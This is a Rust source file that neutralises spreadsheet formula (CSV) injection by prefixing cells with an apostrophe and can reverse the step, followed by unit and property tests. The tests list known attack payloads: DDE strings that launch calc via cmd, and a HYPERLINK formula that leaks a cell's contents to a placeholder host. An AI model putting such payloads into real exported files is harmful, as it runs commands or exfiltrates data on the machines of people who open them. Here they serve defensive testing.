//! The one rule against cells that a spreadsheet would run, and its inverse.
//!
//! Spreadsheets run what begins with `=`, `+`, `-` or `@`, also behind a TAB, CR or LF, and in East
//! Asian locales in full width: <https://owasp.org/www-community/attacks/CSV_Injection>. A leading
//! apostrophe makes it text.
//!
//! Never in here: a second rule. What cannot be undone by [`restore`] would change somebody's data.

use std::borrow::Cow;

const STARTERS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// Puts one apostrophe in front of a text that would be run: one whose first character after any
/// leading apostrophes is `=`, `+`, `-`, `@`, one of these in full width, TAB, CR or LF, unless the
/// whole text is
///
/// - a number: a sign, digits, at most one `.` or `,` between digits, an exponent (`-5`, `+1,5`,
///   `-1.5e-7`); or
/// - a telephone number: `+`, then 5 to 15 digits and nothing else but blanks, `(`, `)`, `-`, `/` and
///   `.` (`+47 22 33 44 55`). With one of the last three among them it needs digits that only blanks or
///   parentheses part (`+47 22-33`), and with a `/` two such gaps: a spreadsheet calculates with all
///   that is a sum or a mixed fraction, and `+47-22334455` becomes a negative number.
///
/// A text that already has apostrophes in front of such a start gets one more, so that [`restore`]
/// gives back every text exactly.
pub fn defuse(text: &str) -> Cow<'_, str> {
    if would_run(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Undoes [`defuse`]: takes one apostrophe away where the rest would have been given one. For programs
/// that read the file; a spreadsheet shows the text as it is.
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'')
        .filter(|rest| would_run(rest))
        .unwrap_or(cell)
}

fn would_run(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(STARTERS)
        && !is_number(text)
        && !is_telephone_number(text)
}

fn is_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let (mantissa, exponent) = text.split_once(['e', 'E']).unwrap_or((text, "0"));
    let mantissa = without_sign(mantissa);
    let (whole, fraction) = mantissa.split_once(['.', ',']).unwrap_or((mantissa, "0"));
    digits(whole) && digits(fraction) && digits(without_sign(exponent))
}

fn without_sign(text: &str) -> &str {
    text.strip_prefix(['+', '-']).unwrap_or(text)
}

fn is_telephone_number(text: &str) -> bool {
    let Some(number) = text.strip_prefix('+') else {
        return false;
    };
    let digits = number.bytes().filter(u8::is_ascii_digit).count();
    let only = |c: char| c.is_ascii_digit() || matches!(c, ' ' | '(' | ')' | '-' | '/' | '.');
    // No sum has two numbers without an operator between them.
    let gaps_needed = match number {
        fraction if fraction.contains('/') => 2,
        sum if sum.contains(['-', '.']) => 1,
        _ => 0,
    };
    (5..=15).contains(&digits) && number.chars().all(only) && gaps(number) >= gaps_needed
}

/// How many times only blanks and parentheses stand between two digits.
fn gaps(number: &str) -> usize {
    number
        .trim_matches(|c: char| !c.is_ascii_digit())
        .split(|c: char| c.is_ascii_digit())
        .filter(|between| !between.is_empty() && !between.contains(['-', '/', '.']))
        .count()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_formula_gets_one_apostrophe() {
        for text in [
            // OWASP's own examples.
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            // Known attacks.
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.com?leak=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            "-",
            "+",
            "--5",
            "-5-3",
            "-1,000.50",
            "-5e",
            "+47 22 33 44 55 A1",
            "+1-1",
            // Excel calculates with these.
            "+47-22334455",
            "+12345-1",
            "+12345/47",
            "+12345 - 1",
            "+12345-1 ",
            "+(47)-22334455",
            "+47-(22334455)",
            "+47 22/334",
            // And with these where the point parts thousands.
            "+1.234.567",
            "+1 234567890123456",
            "-٣",
        ] {
            assert_eq!(defuse(text), format!("'{text}"), "{text:?}");
            assert_eq!(restore(&defuse(text)), text);
        }
    }

    #[test]
    fn a_number_a_telephone_number_or_plain_text_is_left_alone() {
        for text in [
            "",
            "0",
            "-5",
            "+1.5",
            "-1,5",
            "-0.0000001",
            "-1e5",
            "-1.5E-7",
            "+47 22 33 44 55",
            "+4722334455",
            "+47 22334455-1",
            "+(47)22-33-44-55",
            "+47 (22) 33.44/55",
            "a=b",
            "Ola-Kari",
            "'til",
            "'",
            "\"=1+1\"",
            "2026-01-31",
            " = ",
            "Æ",
            "👩‍🏫",
        ] {
            assert_eq!(defuse(text), text);
            assert_eq!(restore(text), text);
        }
    }

    #[test]
    fn apostrophes_that_were_there_before_come_back() {
        for text in ["'=1", "''=1", "'-5", "'+47 22 33 44 55", "'\t"] {
            assert_eq!(defuse(text), format!("'{text}"));
            assert_eq!(restore(&defuse(text)), text);
        }
    }

    proptest! {
        #[test]
        fn every_text_comes_back(text in prop_oneof!["['=+@a1 .,e\t\r\n＝-]{0,6}", "\\PC*", any::<String>()]) {
            let cell = defuse(&text);
            prop_assert_eq!(restore(&cell), text.as_str());
        }

        #[test]
        fn what_still_begins_like_a_formula_cannot_call_or_refer_to_anything(
            text in prop_oneof!["[=+@'-][=+@a1 .,e()/\t-]{0,6}", "[=+-]\\PC*"],
        ) {
            let cell = defuse(&text);
            if cell.starts_with(STARTERS) {
                let harmless = |c: char| c.is_ascii_digit() || "+-.,eE ()/".contains(c);
                prop_assert!(cell.chars().all(harmless) && cell.chars().any(|c| c.is_ascii_digit()), "{cell:?}");
            }
        }
    }
}
